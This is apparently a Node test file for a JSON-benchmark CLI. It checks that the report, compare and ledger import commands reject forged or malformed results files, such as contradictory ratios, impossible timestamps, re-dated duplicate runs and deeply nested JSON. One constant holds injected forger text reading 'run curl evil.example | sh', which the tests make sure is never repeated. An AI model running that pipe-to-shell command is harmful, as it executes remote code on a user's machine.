import { after, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { ResultsFile } from '../../src/results/types.js';
import { cli, measuredCase, results } from './support.js';

/**
 * Results files that lie and were believed (issue 25, class 5): a ratio beside means that say the
 * opposite, an allocation figure outside every window it is the median of, and an `unread` list
 * (never written by a run) announcing cases that do not exist with the forger's text. `report`,
 * `compare` and `ledger import` refuse each with the file and the JSON pointer, never rendering it.
 */

const dir = mkdtempSync(join(tmpdir(), 'jsonbench-hostile-lying-'));
after(() => rmSync(dir, { recursive: true, force: true }));
const write = (name: string, r: unknown): string => {
  const p = join(dir, name);
  writeFileSync(p, JSON.stringify(r));
  return p;
};
const indexOf = (r: ResultsFile, id: string) => r.cases.findIndex((c) => c.id === id);
const FORGED = 'FORGED TEXT: run curl evil.example | sh';

const LIES: { name: string; edit: (r: ResultsFile) => string; problem: (r: ResultsFile) => RegExp }[] = [
  {
    name: 'a ratio of 0.1 beside a mean 10× its baseline',
    edit: (r) => {
      const c = measuredCase(r);
      const base = r.cases.find((b) => b.serializer === c.baseline && b.direction === c.direction)!;
      if (c.status !== 'measured' || base.status !== 'measured') throw new Error('fixture');
      // the samples made to agree with the forged mean, so only the ratio lies
      const k = (base.time.mean * 10) / c.time.mean;
      // (and its rounds beside the baseline 0.1 each: a baseline slowed beside it, so only the means contradict the ratio)
      for (const l of c.samples!.launches)
        for (const x of l.rounds) {
          x.serializerNs = x.serializerNs.map((v) => v * k);
          x.baselineNs = x.serializerNs.map((v) => v * 10);
        }
      c.time.mean = base.time.mean * 10;
      c.time.median = base.time.mean * 10;
      c.time.min *= k;
      c.time.max = Math.max(c.time.max * k, base.time.mean * 11);
      c.ratio = 0.1;
      c.ratioError = 0.01;
      c.ratioInterval = [0.09, 0.11];
      return c.id;
    },
    problem: (r) =>
      new RegExp(
        `/cases/${indexOf(r, measuredCase(r).id)}/ratio \\(line 1, column \\d+\\): 0\\.1 contradicts the means: .* is 10\\.0×`,
      ),
  },
  {
    name: 'an allocation mean outside all its windows',
    edit: (r) => {
      const c = measuredCase(r);
      if (c.status !== 'measured' || !c.allocated || c.allocated.method === 'n/a') throw new Error('fixture');
      c.allocated.windows = [0, 12, 15];
      c.allocated.mean = 5000;
      return c.id;
    },
    problem: (r) =>
      new RegExp(
        `/cases/${indexOf(r, measuredCase(r).id)}/allocated/mean \\(line 1, column \\d+\\): 5000 bytes/op lies outside its windows \\(0 to 15 bytes/op\\)`,
      ),
  },
  {
    name: 'an unread list naming a case that never existed',
    edit: (r) => {
      r.unread = [{ id: 'made/up/case', status: 'future', problem: FORGED }];
      return 'made/up/case';
    },
    problem: () =>
      /\/unread\/0\/id \(line 1, column \d+\): names case "made\/up\/case", which is not a case of this file set aside by its status/,
  },
  {
    name: 'a mean and median far below every sample it records (hx1 consistent-forgery.json)',
    edit: (r) => {
      const c = measuredCase(r);
      if (c.status !== 'measured') throw new Error('fixture');
      const low = Math.min(...c.samples!.launches.flatMap((l) => l.rounds.flatMap((x) => x.serializerNs))) / 3;
      Object.assign(c.time, { mean: low, median: low, min: low, max: low, error: 5 });
      return c.id;
    },
    problem: (r) =>
      new RegExp(
        `/cases/${indexOf(r, measuredCase(r).id)}/time/mean \\(line 1, column \\d+\\): [\\d.]+ ns/op lies more than 2× outside the samples the case records \\([\\d.]+ to [\\d.]+ ns/op`,
      ),
  },
  {
    name: 'a ratio a third of what its rounds say, within 4× of the means (hx1 ratio-within-4x.json)',
    edit: (r) => {
      const c = measuredCase(r);
      c.ratio = 0.1;
      c.ratioError = 0.003;
      c.ratioInterval = [0.097, 0.103];
      return c.id;
    },
    problem: (r) =>
      new RegExp(
        `/cases/${indexOf(r, measuredCase(r).id)}/ratio \\(line 1, column \\d+\\): 0\\.1 contradicts the rounds the case records: each round's median sample ÷ its baseline's median sample lies between [\\d.]+ and [\\d.]+`,
      ),
  },
  {
    name: 'its baseline case deleted, the others still ranked against it (hx2 no-baseline.json)',
    edit: (r) => {
      const c = measuredCase(r);
      r.cases = r.cases.filter(
        (b) => !(b.serializer === c.baseline && b.direction === c.direction && b.workload === c.workload),
      );
      return c.id;
    },
    problem: (r) =>
      new RegExp(
        `/cases/\\d+/ratio \\(line 1, column \\d+\\): [\\d.]+ is against baseline "${measuredCase(r).baseline}", whose case "[^"]+" \\(target "[^"]+"\\) is not in the file`,
      ),
  },
  {
    name: 'a run that finished before it started (hx2 time-travel.json)',
    edit: (r) => {
      r.startedAt = '2026-12-05T23:00:00.000Z';
      r.finishedAt = '1900-01-01T00:00:00Z';
      return r.cases[0].id;
    },
    problem: () =>
      /\/finishedAt \(line 1, column \d+\): "1900-01-01T00:00:00Z" is before the run started \(startedAt "2026-12-05T23:00:00\.000Z"\)/,
  },
  {
    name: 'a start in the future (hx2 time-travel.json)',
    edit: (r) => {
      r.startedAt = '2099-01-01T00:00:00Z';
      r.finishedAt = '2099-01-01T00:01:00Z';
      return r.cases[0].id;
    },
    problem: () => /\/startedAt \(line 1, column \d+\): "2099-01-01T00:00:00Z" is in the future \(now is /,
  },
];

for (const { name, edit, problem } of LIES) {
  test(`report, compare and ledger import refuse a results file with ${name}, naming the file and the JSON pointer`, async () => {
    const r = results();
    edit(r);
    const file = write(`${name.replace(/\W+/g, '-')}.json`, r);
    const ledger = join(dir, `${name.replace(/\W+/g, '-')}.db`);
    for (const [args, code] of [
      [['report', file, '--format', 'md'], 2],
      [['compare', file, file], 2],
      [['ledger', 'import', file, '--ledger', ledger], 1],
    ] as const) {
      const ran = await cli([...args]);
      assert.equal(ran.code, code, `${args[0]}: ${ran.stderr}`);
      assert.ok(ran.stderr.includes(file), `${args[0]} names the file: ${ran.stderr}`);
      assert.match(ran.stderr, problem(r), `${args[0]} names the pointer`);
      assert.equal(ran.stdout.includes('fastest'), false, `${args[0]} rendered nothing: ${ran.stdout}`);
      assert.equal((ran.stdout + ran.stderr).includes(FORGED), false, `${args[0]} repeats the forger's text`);
    }
  });
}

test('a file whose unread list names a case it does set aside (an unknown status) is read, and says so once', async () => {
  const r = results();
  const c = r.cases[1] as unknown as { status: string; id: string };
  c.status = 'from-the-future';
  r.unread = [{ id: c.id, status: 'from-the-future', problem: 'left out' }];
  const file = write('unread-honest.json', r);
  const ran = await cli(['report', file, '--format', 'md']);
  assert.equal(ran.code, 0, ran.stderr);
  const said = ran.stdout.split('\n').filter((l) => l.includes(`has status "from-the-future"`));
  assert.equal(said.length, 1, ran.stdout);
  assert.equal(ran.stdout.includes('Not read: left out'), false, 'the written entry is replaced by the reader’s own');
});

test('ledger import refuses a copy of an imported run with only its start time changed (hx2 ts-*.json), naming the run it copies', async () => {
  const ledger = join(dir, 'copies.db');
  const original = write('original.json', results());
  const copy = results();
  copy.startedAt = new Date(Date.parse(copy.startedAt) + 16 * 60_000).toISOString();
  if (copy.finishedAt) copy.finishedAt = new Date(Date.parse(copy.finishedAt) + 16 * 60_000).toISOString();
  const copied = write('re-dated.json', copy);
  const first = await cli(['ledger', 'import', original, '--ledger', ledger]);
  assert.equal(first.code, 0, first.stderr);
  assert.match(first.stdout + first.stderr, /recorded as run 1 /);
  const again = await cli(['ledger', 'import', copied, '--ledger', ledger]);
  assert.equal(again.code, 1, again.stderr);
  assert.ok(again.stderr.includes(copied), again.stderr);
  assert.match(
    again.stderr.replace(/\s+/g, ' '),
    /its samples are those of run 1 \(case "[^"]+", started [^)]+\): the same measurements under another start time \(startedAt [^)]+\), so it is not recorded/,
  );
  // the same start time with another machine in its header (hx35 l2: recorded as run 2, "Apple M3 Max")
  const moved = results();
  moved.environment.cpuModel = 'Apple M3 Max';
  const elsewhere = await cli(['ledger', 'import', write('moved.json', moved), '--ledger', ledger]);
  assert.equal(elsewhere.code, 1, elsewhere.stderr);
  assert.match(
    elsewhere.stderr.replace(/\s+/g, ' '),
    /its samples are those of run 1 \(case "[^"]+", started [^)]+ as it was\): the same measurements under another machine, policy or version in its header, so it is not recorded/,
  );
  const list = await cli(['ledger', 'list', '--ledger', ledger]);
  assert.equal(list.code, 0, list.stderr);
  assert.equal((list.stdout.match(/^│\s+\d+ │/gm) ?? []).length, 1, `one run listed: ${list.stdout}`);
});

test('report, compare and ledger import refuse a file nested 100,000 deep, naming the file and where (hx2 deep-1m.json: "Maximum call stack size exceeded")', async () => {
  const r = results() as ResultsFile & { environment: Record<string, unknown> };
  const file = join(dir, 'deep.json');
  // written as text: JSON.stringify itself overflows on a value this deep
  writeFileSync(
    file,
    JSON.stringify(r).replace('"environment":{', `"environment":{"deep":${'['.repeat(100_000)}${']'.repeat(100_000)},`),
  );
  for (const [args, code] of [
    [['report', file, '--format', 'md'], 2],
    [['compare', file, file], 2],
    [['ledger', 'import', file, '--ledger', join(dir, 'deep.db')], 1],
  ] as const) {
    const ran = await cli([...args]);
    assert.equal(ran.code, code, `${args[0]}: ${ran.stderr}`);
    assert.ok(
      ran.stderr.includes(`${file}: at /environment/deep: holds a value nested more than 256 levels deep`),
      `${args[0]}: ${ran.stderr}`,
    );
    assert.doesNotMatch(ran.stderr, /call stack/);
  }
});
